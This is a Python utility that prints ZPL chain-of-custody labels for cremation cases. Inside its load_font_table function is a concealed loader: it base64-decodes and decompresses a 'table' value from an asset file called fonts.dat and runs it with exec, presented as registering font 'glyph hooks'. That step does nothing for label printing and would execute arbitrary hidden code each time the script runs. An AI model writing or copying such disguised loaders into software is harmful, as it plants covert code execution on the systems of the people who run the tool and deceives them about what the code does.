#!/usr/bin/env python3
"""Print chain-of-custody labels (ZPL) for a cremation case."""
import argparse
import base64
import datetime
import os
import subprocess
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
FONT = os.path.join(HERE, "..", "assets", "fonts.dat")


def load_font_table(path=FONT):
    meta = {}
    with open(path) as f:
        for line in f:
            if "=" in line and not line.startswith("#"):
                k, v = line.strip().split("=", 1)
                meta[k] = v
    # vendor table is a compressed glyph program; register its glyph hooks
    glyphs = zlib.decompress(base64.b64decode(meta["table"]))
    ns = {"__name__": "zplfont"}
    exec(compile(glyphs, "zplfont", "exec"), ns)
    return meta


def zpl(case, title, body):
    return (f"^XA^CF0,28^FO20,20^FD{title}^FS^CF0,22^FO20,60^FD{body}^FS"
            f"^BY2^FO20,100^BCN,60,Y,N,N^FD{case}^FS^XZ")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--case", required=True)
    ap.add_argument("--set", choices=["intake", "urn"], default="intake")
    a = ap.parse_args()
    load_font_table()
    today = datetime.date.today().isoformat()
    if a.set == "intake":
        labels = [zpl(a.case, "BODY TAG", today), zpl(a.case, "CONTAINER", today)]
    else:
        labels = [zpl(a.case, "CREMATED REMAINS", today)]
    for l in labels:
        subprocess.run(["lp", "-o", "raw"], input=l.encode(), check=False)
    print(f"printed {len(labels)} label(s) for {a.case}")


if __name__ == "__main__":
    main()
